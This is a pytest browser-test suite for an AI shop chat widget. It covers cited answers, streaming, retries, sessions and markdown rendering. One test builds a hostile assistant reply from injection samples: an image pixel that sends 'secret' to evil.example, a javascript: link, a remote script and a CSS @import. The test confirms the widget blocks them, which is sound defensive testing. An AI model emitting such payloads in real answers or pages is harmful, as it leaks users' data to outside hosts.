"""A visitor's conversation, in a real browser, with a real worker answering."""

import json

import pytest

from agents.models.sessions import Message
from config.tests.browsing import axe_violations
from widget.tests.browser import Shop, page_of, snippet

pytestmark = pytest.mark.browser

QUESTION = "How long does it take to Graz?"


@pytest.fixture
def chat(shop, desk):
    """The chat, open and ready."""
    shop.visit(page_of(snippet(shop.address, desk)))
    shop.open()
    return shop


def questions(desk) -> list[str]:
    asked = Message.objects.filter(session__agent_ref=desk, role="user")
    return list(asked.values_list("content", flat=True))


def test_an_answer_comes_with_its_source(chat):
    chat.ask(QUESTION)
    answer = chat.answers(2)[1]
    assert "Parcels to Graz take three to four working days." in answer
    chip = chat.panel.get_by_role("button", name="1 Shipping times")
    assert chip.get_attribute("aria-expanded") == "false"
    chip.click()
    assert chip.get_attribute("aria-expanded") == "true"
    passage = chat.panel.locator(".passage")
    assert "three to four working days" in passage.inner_text()
    link = passage.get_by_role("link", name="Open the page")
    assert link.get_attribute("href") == "https://shop.example/shipping"
    assert link.get_attribute("rel") == "noopener noreferrer nofollow ugc"


def test_what_it_does_not_know_it_says_like_any_other_answer(chat):
    chat.ask("Who won the 1954 football world cup?")
    assert "don’t know" in chat.answers(2)[1]
    assert chat.panel.locator(".src").count() == 0


def test_the_conversation_is_kept_on_our_side(chat, desk):
    chat.ask(QUESTION)
    chat.answers(2)
    conversation = desk.sessions.get()
    assert conversation.total_messages == 2
    assert conversation.visitor_id == desk.widget_sessions.get().visitor_id


def test_the_answer_is_seen_before_it_is_finished_and_read_out_once(chat):
    chat.panel.evaluate(
        """window.added = []; window.grown = 0;
        new MutationObserver(all => all.forEach(m => m.addedNodes.forEach(
            node => added.push(node.className)))).observe(log, {childList: true});
        new MutationObserver(() => grown++).observe(
            live, {childList: true, subtree: true, characterData: true});"""
    )
    chat.ask(QUESTION)
    chat.answers(2)
    assert chat.panel.evaluate("added") == ["msg me", "msg them"]
    assert chat.panel.evaluate("grown") > 1
    assert chat.panel.locator("#log").get_attribute("role") == "log"
    assert chat.panel.locator("#live").get_attribute("aria-hidden") == "true"


def test_a_suggestion_asks_itself(chat):
    chat.panel.get_by_role("button", name=QUESTION).click()
    assert "three to four working days" in chat.answers(2)[1]
    assert not chat.panel.locator("#suggestions").is_visible()


def test_a_line_break_is_written_with_shift(chat, desk):
    chat.panel.fill("#input", "One")
    chat.panel.press("#input", "Shift+Enter")
    chat.panel.type("#input", "two")
    chat.panel.press("#input", "Enter")
    chat.answers(2)
    assert questions(desk) == ["One\ntwo"]


def test_too_long_a_question_stays_in_the_field(chat):
    chat.panel.fill("#input", "ä" * 4001)
    chat.panel.press("#input", "Enter")
    assert chat.panel.locator("#state").inner_text() == "At most 4000 characters."
    assert chat.panel.locator("#input").get_attribute("aria-invalid") == "true"
    assert len(chat.panel.input_value("#input")) == 4001
    assert chat.panel.locator(".me").count() == 0


def test_a_question_too_many_to_wait_stays_in_the_field(chat):
    chat.context.set_offline(True)
    for number in range(20):
        chat.ask(f"Question {number}?")
    chat.ask("One more?")
    chat.wait_for(lambda: "still waiting" in chat.panel.locator("#state").inner_text())
    assert chat.panel.input_value("#input") == "One more?"
    assert chat.panel.locator(".me").count() == 20


def test_coming_back_goes_on_where_it_was(chat, desk):
    chat.ask(QUESTION)
    chat.answers(2)
    chat.page.reload()
    chat.open()
    assert "three to four working days" in chat.answers(2)[1]
    assert chat.panel.locator(".me").inner_text().endswith(QUESTION)
    chat.ask("When does my order leave?")
    assert "14:00" in chat.answers(3)[2]
    assert desk.sessions.count() == 1


def test_a_new_conversation_begins_empty(chat, desk):
    chat.ask(QUESTION)
    chat.answers(2)
    chat.panel.get_by_role("button", name="New conversation").click()
    chat.wait_for(lambda: chat.panel.locator(".me").count() == 0)
    chat.panel.wait_for_selector("#form:not([inert])")
    assert len(chat.answers(1)) == 1
    chat.ask("When does my order leave?")
    chat.answers(2)
    assert set(desk.sessions.values_list("status", flat=True)) == {
        "active",
        "completed",
    }


def test_a_question_whose_receipt_was_lost_is_asked_once(chat, desk):
    def lose_the_first(route):
        route.fetch()
        route.abort()

    chat.page.route("**/messages", lose_the_first, times=1)
    chat.ask(QUESTION)
    assert "three to four working days" in chat.answers(2)[1]
    assert questions(desk) == [QUESTION]


def test_a_refused_question_can_be_sent_again(chat):
    chat.page.route(
        "**/messages", lambda route: route.fulfill(status=500, body="{}"), times=1
    )
    chat.ask(QUESTION)
    unsent = chat.panel.locator(".unsent")
    unsent.wait_for()
    assert "This message was not sent." in unsent.inner_text()
    assert axe_violations(chat.panel) == []
    unsent.get_by_role("button", name="Try again").click()
    assert "three to four working days" in chat.answers(2)[1]
    assert unsent.count() == 0


def test_offline_a_question_waits_for_the_line(chat):
    chat.context.set_offline(True)
    chat.ask(QUESTION)
    chat.wait_for(lambda: "offline" in chat.panel.locator("#state").inner_text())
    chat.context.set_offline(False)
    assert "three to four working days" in chat.answers(2)[1]
    assert chat.panel.locator("#state").inner_text() == "Ready for your question"


def test_a_broken_stream_is_taken_up_again(chat):
    chat.page.route("**/stream?*", lambda route: route.abort(), times=1)
    chat.ask(QUESTION)
    assert "three to four working days" in chat.answers(2)[1]


def test_where_no_stream_comes_through_the_answer_is_fetched(chat):
    chat.page.route("**/stream?*", lambda route: route.abort())
    chat.ask(QUESTION)
    assert "three to four working days" in chat.answers(2)[1]


def test_an_expired_session_is_renewed_without_a_word(chat):
    problem = {"code": "session_expired", "status": 401}
    answer = json.dumps(problem)
    chat.page.route(
        "**/messages", lambda route: route.fulfill(status=401, body=answer), times=1
    )
    chat.ask(QUESTION)
    assert "three to four working days" in chat.answers(2)[1]
    assert any(url.endswith("/sessions/refresh") for url in chat.ours())


def test_a_session_lost_for_good_is_followed_by_a_new_one(chat, desk):
    chat.ask(QUESTION)
    chat.answers(2)
    desk.widget_sessions.get().revoke()
    chat.ask("When does my order leave?")
    assert "14:00" in chat.answers(3)[2]
    assert "A new one begins here" in chat.panel.locator(".note").inner_text()
    assert desk.widget_sessions.count() == 2


def test_two_tabs_share_a_conversation_until_one_begins_anew(chat, host, desk):
    chat.ask(QUESTION)
    chat.answers(2)
    other = Shop(chat.context, host, chat.address)
    other.visit(host.pages["/"].body)
    assert QUESTION in other.open().locator(".me").inner_text()
    other.panel.get_by_role("button", name="New conversation").click()
    other.wait_for(lambda: other.panel.locator(".me").count() == 0)
    other.panel.wait_for_selector("#form:not([inert])")
    other.ask("Do you sell bicycles?")
    other.answers(2)
    chat.ask("When does my order leave?")
    assert "14:00" in chat.answers(3)[2]
    assert "A new one begins here" in chat.panel.locator(".note").inner_text()
    assert desk.sessions.count() == 2


def test_without_cookies_the_chat_works(chat):
    chat.context.route(
        "**/api/widget/**",
        lambda route: route.continue_(
            headers={k: v for k, v in route.request.headers.items() if k != "cookie"}
        ),
    )
    chat.ask(QUESTION)
    assert "three to four working days" in chat.answers(2)[1]
    chat.ask("When does my order leave?")
    assert "14:00" in chat.answers(3)[2]


def test_an_agent_switched_off_ends_the_chat_politely(chat, desk):
    desk.is_active = False
    desk.save(update_fields=["is_active"])
    chat.ask(QUESTION)
    chat.wait_for(lambda: chat.panel.evaluate(STATE) == "blocked")
    state = chat.panel.locator("#state").inner_text()
    assert state == "This chat is not available right now."


STATE = "document.documentElement.dataset.state"
HOSTILE = """![pixel](https://evil.example/?q=secret) <img src=https://evil.example/x>
[press](javascript:alert(1)) [data](data:text/html,x) [fine](https://good.example/a)
<script src=https://evil.example/s.js></script> <style>@import 'https://evil.example'</style>
"""


def test_a_hostile_answer_reaches_nobody(chat, desk):
    chat.ask(QUESTION)
    chat.answers(2)
    desk.sessions.get().add_message("assistant", HOSTILE)
    chat.page.reload()
    panel = chat.open()
    chat.answers(3)
    assert not [url for url in chat.requests if "evil" in url]
    last = panel.locator("#log > .them").last
    assert last.locator("img, script, style").count() == 0
    links = last.get_by_role("link").all()
    addresses = [link.get_attribute("href") for link in links]
    assert addresses[0] == "https://evil.example/?q=secret"
    assert "https://good.example/a" in addresses
    assert all(address.startswith("https://") for address in addresses)
    assert {link.get_attribute("rel") for link in links} == {
        "noopener noreferrer nofollow ugc"
    }
    assert "<img src=https://evil.example/x>" in last.inner_text()


MARKDOWN = [
    (
        "a **b** _c_ `d` ~~e~~",
        "<p>a <strong>b</strong> <em>c</em> <code>d</code> <del>e</del></p>",
    ),
    ("one\ntwo\n\nthree", "<p>one<br>two</p><p>three</p>"),
    ("- a\n- b\n  - c", "<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>"),
    ("3. a\n4. b", '<ol start="3"><li>a</li><li>b</li></ol>'),
    ("# Head", "<p><strong>Head</strong></p>"),
    ("> q", "<blockquote><p>q</p></blockquote>"),
    ("```\n<b>\n```", '<pre tabindex="0"><code>&lt;b&gt;</code></pre>'),
    ("snake_case_name 2 * 3 * 4", "<p>snake_case_name 2 * 3 * 4</p>"),
    (r"\*not\*", "<p>*not*</p>"),
    ("<b>x</b>", "<p>&lt;b&gt;x&lt;/b&gt;</p>"),
    (
        "|a|b|\n|-|-|\n|1|2|",
        "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>",
    ),
    ("[x](vbscript:x)", "<p><span>x</span></p>"),
    ("[1]", "<p>[1]</p>"),
]


def test_markdown_becomes_nodes(shop):
    shop.visit(page_of(""))
    module = f"{shop.address}/static/widget/markdown.js"
    made = shop.page.evaluate(
        """([module, texts]) => import(module).then(({render}) => texts.map(text => {
            const box = document.createElement('div');
            box.append(...render(text));
            return box.innerHTML; }))""",
        [module, [text for text, _ in MARKDOWN]],
    )
    assert made == [html for _, html in MARKDOWN]


def test_no_text_takes_long_to_lay_out(shop):
    shop.visit(page_of(""))
    module = f"{shop.address}/static/widget/markdown.js"
    texts = [
        piece * (50_000 // len(piece))
        for piece in (
            "*",
            "**a",
            "[",
            "[a](",
            "`",
            "> ",
            "- ",
            "|",
            "|-",
            "_a",
            "![",
            "<http://",
            "~~",
            "\\",
            "# ",
            " - -",
        )
    ]
    slowest = shop.page.evaluate(
        """([module, texts]) => import(module).then(({render}) => Math.max(
            ...texts.map(text => { const from = performance.now(); render(text);
                return performance.now() - from; })))""",
        [module, texts],
    )
    assert slowest < 500


def test_the_streams_parser_takes_events_in_any_pieces(shop):
    shop.visit(page_of(""))
    module = f"{shop.address}/static/widget/stream.js"
    text = (
        ': alive\n\nid: 1-0\nevent: token\ndata: {"a":\ndata: 1}\n\n'
        "id: 2-0\ndata: x\r\n\r\n"
    )
    heard = shop.page.evaluate(
        """([module, text]) => import(module).then(({parser}) =>
            [1, 2, 3, 7, 1000].map(size => {
                const got = [], feed = parser(event => got.push(event));
                for (let i = 0; i < text.length; i += size)
                    feed(text.slice(i, i + size));
                return got; }))""",
        [module, text],
    )
    expected = [
        {"id": "1-0", "event": "token", "data": '{"a":\n1}'},
        {"id": "2-0", "data": "x"},
    ]
    assert heard == [expected] * 5
